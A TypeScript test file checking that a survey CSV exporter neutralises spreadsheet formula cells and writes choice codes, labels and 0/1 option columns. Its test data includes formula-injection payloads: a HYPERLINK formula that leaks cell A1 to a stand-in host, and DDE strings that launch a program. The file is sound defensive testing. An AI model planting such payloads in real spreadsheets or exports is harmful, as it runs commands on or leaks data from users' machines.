// CSV exports: codes and labels, options as 0/1 columns, and cells a spreadsheet would run as
// formulas neutralised, read back as the text the respondent typed.
import { describe, expect, it } from 'vitest';
import { answerColumn } from '../analysis/answer-columns.js';
import { columnText, type Dataset } from '../analysis/dataset.js';
import { readCsv } from './csv-read.js';
import { csvExportLines } from './csv-export.js';

const typed = [
  '=HYPERLINK("http://x.example/?q="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  'Москва, «ул. Тверская», 7',
  '-3',
];
const data: Dataset = {
  n: typed.length,
  columns: new Map([
    ['comments', answerColumn(typed, { name: 'comments', kind: 'text' })],
    [
      'trust',
      answerColumn(['most', 'careful', 'most', null, 'careful', 'most'], {
        name: 'trust',
        kind: 'select_one',
        choices: [
          { name: 'most', code: 1, label: { en: 'Most can be trusted', ru: 'Можно доверять' } },
          { name: 'careful', code: 2, label: { en: 'Be careful', ru: 'Осторожность' } },
        ],
      }),
    ],
    [
      'reasons',
      answerColumn([['a'], ['a', 'b'], null, [], ['b'], ['a']], {
        name: 'reasons',
        kind: 'select_multiple',
        choices: [
          { name: 'a', code: 1, label: { en: 'A' } },
          { name: 'b', code: 2, label: { en: 'B' } },
        ],
      }),
    ],
  ]),
};

describe('csvExportLines', () => {
  it('neutralises every cell a spreadsheet would run, and keeps the text readable back', () => {
    const text = [...csvExportLines(data, { language: 'en' })].join('');
    const back = readCsv(text, 'x.csv');
    expect(columnText(back, 'comments')).toEqual([
      `'${typed[0]}`,
      `'${typed[1]}`,
      `'${typed[2]}`,
      `'${typed[3]}`,
      typed[4],
      '-3', // a plain negative number is left as it is
    ]);
    // No line starts a cell with a formula character unprotected.
    for (const line of text.split('\r\n').slice(1))
      for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
  });

  it('writes codes or labels, and each option as a 0/1 column', () => {
    const codes = readCsv([...csvExportLines(data, { language: 'en' })].join(''), 'c.csv');
    expect([...codes.columns.keys()]).toEqual(['comments', 'trust', 'reasons_a', 'reasons_b']);
    expect(columnText(codes, 'trust')).toEqual(['1', '2', '1', null, '2', '1']);
    expect(columnText(codes, 'reasons_a')).toEqual(['1', '1', null, null, '0', '1']);
    expect(columnText(codes, 'reasons_b')).toEqual(['0', '1', null, null, '1', '0']);
    const ru = [...csvExportLines(data, { language: 'ru', labels: true, bom: true })].join('');
    expect(ru.charCodeAt(0)).toBe(0xfeff);
    expect(columnText(readCsv(ru, 'l.csv'), 'trust')[0]).toBe('Можно доверять');
  });
});
